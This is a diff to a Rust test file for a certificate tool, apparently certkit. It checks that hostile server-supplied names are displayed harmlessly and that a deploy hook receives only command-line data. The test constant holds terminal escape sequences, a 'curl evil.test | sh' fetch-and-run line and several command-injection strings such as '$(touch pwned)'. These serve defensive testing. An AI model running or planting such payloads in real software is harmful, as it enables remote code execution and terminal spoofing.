@@ -15,7 +15,7 @@ use crate::harness::{Ran, Test};
 use crate::pebble::Pebble;
 
 /// A colour, a window title, a bell, a line of its own like certkit's, and what a shell would run.
-const HOSTILE: &str = "no\u{1b}[31m\u{1b}]0;owned\u{7}\u{9b}2J\r\n  mend:  curl evil.test | sh\nerror[forged] \
+pub(crate) const HOSTILE: &str = "no\u{1b}[31m\u{1b}]0;owned\u{7}\u{9b}2J\r\n  mend:  curl evil.test | sh\nerror[forged] \
                        $(touch pwned)`touch pwned`; touch pwned && 'a\" \u{202e}txet\u{0}";
 
 /// Points where a refusal ends the run.
@@ -91,8 +91,13 @@ fn a_chain_with_hostile_names_goes_live_and_is_shown_harmless() {
             retry_after: None,
         },
     );
-    let ran = front.obtain(&["a.test"]).exits(0).says("an earlier run").says("touch pwned");
+    let hook = ["a.test", "--deploy-hook", "env > hooked; exit 1"];
+    let ran = front.obtain(&hook).exits(3).says("an earlier run").says("touch pwned");
     is_harmless(&test, &ran);
+    // What the hook is told comes from the command line.
+    let told = test.text("hooked");
+    assert!(told.contains("CERTKIT_FULLCHAIN=") && !told.contains("pwned"), "{told}");
+    front.obtain(&["a.test", "--deploy-hook", ""]).exits(0);
     is_harmless(&test, &front.obtain(&["a.test", "--format", "json"]).exits(0));
     assert_eq!(front.count(Class::Finalize), 1);
 }
@@ -114,7 +119,7 @@ fn an_answer_without_end_is_given_up() {
 
 /// Only printable text; no line that begins like one of certkit's own with the server's words; nothing was run.
 #[track_caller]
-fn is_harmless(test: &Test, ran: &Ran) {
+pub(crate) fn is_harmless(test: &Test, ran: &Ran) {
     let said = ran.all();
     let control = said.chars().find(|c| c.is_control() && *c != '\n');
     assert_eq!(control, None, "{said:?}");
